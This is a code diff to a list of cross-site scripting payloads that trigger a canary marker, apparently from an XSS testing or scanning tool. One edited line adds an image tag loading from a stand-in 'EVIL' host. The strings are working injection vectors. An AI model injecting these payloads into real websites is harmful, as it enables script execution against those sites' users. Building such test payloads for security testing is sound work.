@@ -12,7 +12,7 @@ const SING = `document.documentElement.setAttribute('${CANARY}','');top.document
 export const PAYLOADS = [
   `<script>${SING}</script>`,
   `</title></style></script></pre></textarea><script>${SING}</script>`,
-  `"><img src=x onerror="${SING}">`,
+  `"><img src=x onerror="${SING}"><img src="${EVIL}/img.png">`,
   `' onfocus='${SING}' autofocus tabindex='0`,
   `\`><svg onload=${JSON.stringify(SING)}>`,
   `javascript:${SING}`,
